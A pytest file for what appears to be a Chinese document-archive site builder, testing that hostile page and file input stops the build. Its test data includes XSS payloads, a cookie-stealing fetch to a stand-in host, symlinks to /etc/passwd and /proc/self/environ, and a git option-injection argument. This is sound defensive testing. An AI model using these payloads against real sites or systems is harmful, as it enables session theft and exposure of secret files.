"""Hostile input against the site (issue 13: 2, 5, 6, 9): a page or a file in a pull request cannot read files
outside the repository, script the site or make it load anything from another host, and the commands answer bad
arguments with one Chinese message.

End-to-end cases build a broken copy of the project as CI does and check what the editor sees (one message naming
the file and line) and that nothing was published; the variants of each kind are checked on the functions alone.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
from html.parser import HTMLParser
from pathlib import Path

import pytest
from support import build_site, fixture_project, run_module
from test_page_errors import assert_stopped, edit, line_of

from macros.errors import ArchiveError
from macros.site.html_safety import check_css, check_page_html, check_rendered_html
from macros.site.safety_hook import _without, content_security_policy
from macros.site.search_hook import full_index_path

PAGE = "docs/2020-h1/2.md"
ANCHOR = "## （一）强化政治理论武装。"  # a line of PAGE; each case writes its input right after it


def build_broken(project: Path, tmp_path: Path, text: str, page: str = PAGE) -> tuple[object, int]:
    """The project with `text` added after ANCHOR in `page`, built; returns the result and the text's line."""
    written = edit(project, page, ANCHOR, ANCHOR + "\n\n" + text)
    return build_site(project, tmp_path / "site"), line_of(written, text.splitlines()[0])


def assert_nothing_published(result) -> None:
    assert not result.site.exists() or not any(result.site.rglob("*.html")), "a page was published"


# --- Nothing leaves the repository (13.2) ------------------------------------------------------------------

def test_a_linked_original_stops_the_build_before_anything_is_read(project, tmp_path):
    original = project / "docs" / "2020-h1" / "original.txt"
    original.unlink()
    original.symlink_to("/etc/passwd")
    result = build_site(project, tmp_path / "site")
    assert_stopped(result, file="docs/2020-h1/original.txt", line=None, key=None,
                   says=["docs/2020-h1/original.txt（符号链接）", "指向 /etc/passwd", "只收录版本库里的普通文件"])
    assert "root:" not in result.output
    assert_nothing_published(result)


def test_every_link_and_special_file_is_named_in_one_message(project, tmp_path):
    (project / "docs" / "assets" / "env.txt").symlink_to("/proc/self/environ")
    (project / "docs" / "2020-h1").rename(project / "elsewhere")
    (project / "docs" / "2020-h1").symlink_to(project / "elsewhere", target_is_directory=True)
    os.mkfifo(project / "data" / "pipe.yml")
    result = build_site(project, tmp_path / "site")
    assert_stopped(result, file="docs/2020-h1", line=None, key=None,
                   says=["发现 3 个不能收录的：docs/2020-h1（符号链接）；docs/assets/env.txt（符号链接）；"
                         "data/pipe.yml（命名管道（FIFO））"])
    assert_nothing_published(result)


def test_a_file_that_runs_script_when_opened_stops_the_build(project, tmp_path):
    (project / "docs" / "assets" / "chart.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
                                                           encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert_stopped(result, file="docs/assets/chart.svg", line=None, key=None,
                   says=["docs/ 中不能放这种文件", "其中的脚本会在本站运行"])
    assert_nothing_published(result)


# --- Page content cannot script the site (13.5) ------------------------------------------------------------

PAGE_HTML = [
    pytest.param("<script>alert(1)</script>", "<script>", ["页面里不能写 HTML 元素 <script>"], id="script"),
    pytest.param('<img src="x.png" onerror="alert(9)">', "onerror", ["属性 onerror 是事件处理程序"], id="on-attribute"),
    pytest.param('<a href=" jav&#x61;script:alert(1)">点我</a>', "href", ["是“javascript:”地址"], id="javascript-link"),
    pytest.param('<iframe src="https://host/"></iframe>', "<iframe", ["HTML 元素 <iframe>"], id="iframe"),
    pytest.param("<style>body{display:none}</style>", "<style", ["HTML 元素 <style>"], id="style"),
    pytest.param('<p style="background:url(https://host/t.png)">字</p>', "style", ["不能有属性 style"], id="style-attr"),
]


@pytest.mark.parametrize("html, _, says", PAGE_HTML)
def test_raw_html_outside_the_allowlist_is_refused(html, _, says):
    markdown = f"# 一、标题\n\n正文。\n\n{html}\n"
    with pytest.raises(ArchiveError) as refused:
        check_page_html(markdown, "docs/2020-h1/2.md", first_line=4)  # after a 3-line front matter
    assert refused.value.file == "docs/2020-h1/2.md" and refused.value.line == 8
    for phrase in says:
        assert phrase in refused.value.message


@pytest.mark.parametrize("html", ["<object data='x.swf'></object>", "<embed src='x.swf'>", "<svg onload=alert(1)>",
                                  "<form action='https://host/'><input name=a></form>", "<base href='https://host/'>",
                                  "<meta http-equiv=refresh content='0;url=https://host/'>", "<?php echo 1 ?>",
                                  '<a href="data:text/html,<script>alert(1)</script>">x</a>', "<a href='vbscript:x'>x</a>"])
def test_more_active_html_is_refused(html):
    with pytest.raises(ArchiveError):
        check_page_html(f"正文。\n\n{html}\n", "docs/x.md")


def test_the_archives_own_markup_is_allowed():
    check_page_html('# 回顾与展望 { .archive-added title="原文此段没有标题" }\n\n'
                    '<div class="gw-document" markdown="1">\n\n<span class="fig" data-key="a" title="t">1</span>'
                    '<wbr><p hidden aria-label="x">字</p>\n\n</div>\n\n<https://example.org/> <a href="https://example.org/x">外部链接</a>\n'
                    '<table><tr><td colspan="2">表</td></tr></table> <!-- 注释 -->\n', "docs/x.md")


def test_a_script_in_a_page_stops_the_build_with_its_line(project, tmp_path):
    result, line = build_broken(project, tmp_path, '<script>fetch("https://host/?"+document.cookie)</script>')
    assert_stopped(result, file=PAGE, line=line, key=None, says=["页面里不能写 HTML 元素 <script>"])
    assert_nothing_published(result)


def test_an_event_attribute_added_with_braces_stops_the_build(project, tmp_path):
    result, line = build_broken(project, tmp_path, '### 小标题 { onclick="alert(1)" }')
    assert_stopped(result, file=PAGE, line=line, key=None, says=["有事件处理属性 onclick"])
    assert_nothing_published(result)


def test_a_javascript_markdown_link_stops_the_build(project, tmp_path):
    result, line = build_broken(project, tmp_path, "请[点击这里](javascript:alert(document.domain))查看。")
    assert_stopped(result, file=PAGE, line=line, key=None, says=["<a> 的 href 是“javascript:”地址（“javascript:alert(document.domain)”）"])
    assert_nothing_published(result)


class Titles(HTMLParser):
    """The <title> text and every element with its attributes, of one page."""

    def __init__(self):
        super().__init__()
        self.title, self.elements, self._in_title = "", [], False

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self._in_title = tag == "title"

    def handle_endtag(self, tag):
        self._in_title = False

    def handle_data(self, data):
        if self._in_title:
            self.title += data


def parsed(path: Path) -> Titles:
    parser = Titles()
    parser.feed(path.read_text(encoding="utf-8"))
    return parser


def test_titles_from_front_matter_and_headings_show_as_text(project, tmp_path):
    attack = "<img src=x onerror=alert(9)>"
    edit(project, "docs/2020-h1/1.md", "# 一、", f'---\ntitle: "{attack}"\n---\n\n# 一、')
    heading = "&lt;/title&gt;&lt;script&gt;alert(8)&lt;/script&gt;"
    edit(project, "docs/2020-h1/3.md", "# 三、加强基层组织自身建设", f"# 三、{heading}")
    result = build_site(project, tmp_path / "site")
    assert result.ok, result.output
    site = result.site
    for page in sorted(site.rglob("*.html")):
        text = page.read_text(encoding="utf-8")
        assert "<img src=x" not in text and "<script>alert" not in text, page
        assert not any("onerror" in attrs for _, attrs in parsed(page).elements), page
    assert parsed(site / "2020-h1" / "1" / "index.html").title.startswith(attack)  # shown as written, as text
    assert parsed(site / "2020-h1" / "3" / "index.html").title.startswith("三、</title><script>alert(8)</script>")
    index = json.loads(full_index_path(site).read_text(encoding="utf-8"))
    titles = "".join(doc["title"] for doc in index["docs"]).replace("\u200b", "")
    assert "&lt;/title&gt;&lt;script&gt;alert(8)&lt;/script&gt;" in titles  # the search box shows it as text
    assert "<img" not in json.dumps(index, ensure_ascii=False).replace("\u200b", "")


def test_every_page_carries_a_policy_allowing_only_its_own_scripts(built_site):
    pages = sorted(built_site.rglob("*.html"))
    assert len(pages) >= 10
    for page in pages:
        text = page.read_text(encoding="utf-8")
        metas = [a for tag, a in parsed(page).elements
                 if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy"]
        assert len(metas) == 1, page
        policy = dict(part.strip().split(" ", 1) for part in metas[0]["content"].split(";"))
        assert policy["default-src"] == "'none'" and "'unsafe-inline'" not in policy["script-src"], page
        assert "blob:" not in policy["worker-src"], "a Blob worker only in the offline copy"
        inline = re.findall(r"<script>(.*?)</script>", text, re.S)
        assert inline, page
        assert policy["script-src"] == content_security_policy(text, "", False).split("; ")[1].split(" ", 1)[1]
        assert text.index("Content-Security-Policy") < text.index("<script"), "the policy comes before any script"


def test_a_script_in_the_content_never_gets_a_hash():
    page = "<html><head></head><body><script>theme()</script><article><script>evil()</script></article></body></html>"
    with_content = content_security_policy(page, "<script>evil()</script>", False)
    assert with_content.count("sha256-") == 1  # only the theme's


def test_the_content_is_taken_out_of_a_page_as_str_replace_takes_it():
    """The policy hashes the scripts of the page without its content; _without finds the content faster than
    str.replace (by its first characters), with the same result: every place, overlapping or not, long or short."""
    import random

    random.seed(12)
    long_part = "<p>正文" + "甲乙<b>丙</b>" * 20 + "</p>"
    for _ in range(3000):
        part = random.choice([long_part, long_part[:64], long_part[:65] + "x", "ab", "aba", long_part + long_part])
        pieces = [part, part[:-1], part[1:], part[:64], "a", "b", "甲", "\n", long_part[:70] + "y"]
        text = "".join(random.choice(pieces) for _ in range(random.randint(0, 8)))
        assert _without(text, part) == text.replace(part, ""), (text, part)


# --- Nothing from outside (13.6) ---------------------------------------------------------------------------

def test_an_image_from_another_host_stops_the_build(project, tmp_path):
    result, line = build_broken(project, tmp_path, "![](https://tracker.example.com/track.png)")
    assert_stopped(result, file=PAGE, line=line, key=None,
                   says=["页面要从外部网站 tracker.example.com 加载", "请把文件放进 docs/ 中并用相对地址引用"])
    assert_nothing_published(result)


def test_a_stylesheet_loading_from_another_host_stops_the_build(project, tmp_path):
    css = project / "docs" / "assets" / "archive.css"
    text = css.read_text(encoding="utf-8") + '\n@font-face { font-family: x; src: url("https://fonts.example.com/x.woff2"); }\n'
    css.write_text(text, encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert_stopped(result, file="docs/assets/archive.css", line=line_of(text, "fonts.example.com"), key=None,
                   says=["样式要从外部网站 fonts.example.com 加载"])
    assert_nothing_published(result)


@pytest.mark.parametrize("html", [
    '<img src="//host.example/x.png">', '<img srcset="a.png 1x, https://host.example/b.png 2x">',
    '<img src="data:image/png;base64,AAAA">', '<span style="background: url(https://host.example/x)">字</span>',
    "<svg><image href='https://host.example/x.svg'/></svg>", "<video poster='https://host.example/p.png'></video>",
    '<link rel="stylesheet" href="https://host.example/x.css">', "<a href='javascript:alert(1)'>x</a>"])
def test_rendered_content_loading_from_outside_is_refused(html):
    with pytest.raises(ArchiveError):
        check_rendered_html(f"<p>正文</p>{html}", "docs/x.md", own_hosts=frozenset({"archive.example.org"}))


def test_a_script_from_another_host_in_mkdocs_yml_stops_the_build(project, tmp_path):
    config = project / "mkdocs.yml"
    config.write_text(config.read_text(encoding="utf-8") + "\nextra_javascript:\n  - https://cdn.example.com/x.js\n",
                      encoding="utf-8")
    result = build_site(project, tmp_path / "site")
    assert_stopped(result, file="mkdocs.yml", line=None, key=None,
                   says=["extra_javascript 中的“https://cdn.example.com/x.js”来自外部网站 cdn.example.com"])
    assert_nothing_published(result)


def test_links_to_other_sites_and_own_files_stay_allowed():
    check_rendered_html('<p><a href="https://www.gov.cn/">中国政府网</a> <a href="mailto:a@b.cn">信</a> '
                        '<img src="../assets/x.png" alt=""><a href="#fig-a">数</a></p>', "docs/x.md")
    check_css('.x { background: url("img/a.png"); mask: url("data:image/svg+xml;utf8,<svg/>") }', "docs/a.css")
    with pytest.raises(ArchiveError) as refused:
        check_css(".a {}\n@import url('https://host.example/x.css');\n", "docs/assets/a.css")
    assert (refused.value.file, refused.value.line) == ("docs/assets/a.css", 2)


# --- Messages, not tracebacks (13.9) -----------------------------------------------------------------------

def test_a_heading_with_ascii_quotes_gets_a_valid_id(project, tmp_path):
    edit(project, PAGE, ANCHOR, ANCHOR + '\n\n### 关于"三会一课"的落实。\n\n正文。')
    result = build_site(project, tmp_path / "site")
    assert result.ok, result.output
    headings = [attrs for tag, attrs in parsed(result.site / "2020-h1" / "2" / "index.html").elements
                if tag == "h3" and "三会一课" in attrs.get("id", "")]
    assert headings == [{"id": "关于三会一课的落实"}], headings  # no stray attribute from the broken quote
    page = (result.site / "2020-h1" / "2" / "index.html").read_text(encoding="utf-8")
    assert 'href="#关于三会一课的落实"' in page and "关于&quot;三会一课&quot;的落实" in page  # the contents entry


def git(project: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid", *args], cwd=project,
                   check=True, capture_output=True)


def macros_command(project: Path, *args: str) -> subprocess.CompletedProcess:
    return run_module("macros", *args, cwd=project, env={**os.environ, "NO_MKDOCS_2_WARNING": "1"})


def test_a_changed_since_value_is_never_a_git_option(tmp_path):
    project = fixture_project(tmp_path / "p", "three-periods")
    git(project, "init", "-q")
    git(project, "add", "-A")
    git(project, "commit", "-q", "-m", "archive")
    victim = tmp_path / "victim.txt"
    victim.write_text("keep", encoding="utf-8")
    done = macros_command(project, "check", f"--changed-since=--output={victim}")
    assert done.returncode == 1 and "Traceback" not in done.stderr
    assert done.stderr.strip() == (f"未执行：--changed-since：“--output={victim}”不是 git 版本（版本不以“-”开头）。"
                                   f"请写成 --changed-since HEAD 或 --changed-since origin/main 这样的形式。")
    assert victim.read_text(encoding="utf-8") == "keep"
    done = macros_command(project, "check", "--changed-since", "HEAD:docs")  # a tree, not a commit
    assert done.returncode == 0 and "（“HEAD:docs”不是这个仓库里的版本）" in done.stdout.splitlines()[0]


def test_an_offline_copy_to_an_unwritable_place_says_so_before_building(project, tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("", encoding="utf-8")
    done = macros_command(project, "offline", "--no-pdf", "-o", str(blocker / "archive.zip"))
    assert done.returncode == 1 and "Traceback" not in done.stderr, done.stderr
    assert done.stderr.strip() == (f"未执行：{blocker / 'archive.zip'}：无法把离线版写到这里（路径中有一段不是目录）。"
                                   f"请用 -o 指定一个可以写入的文件路径，例如 -o 档案.zip。")
    assert done.stdout == "", "refused before the build"
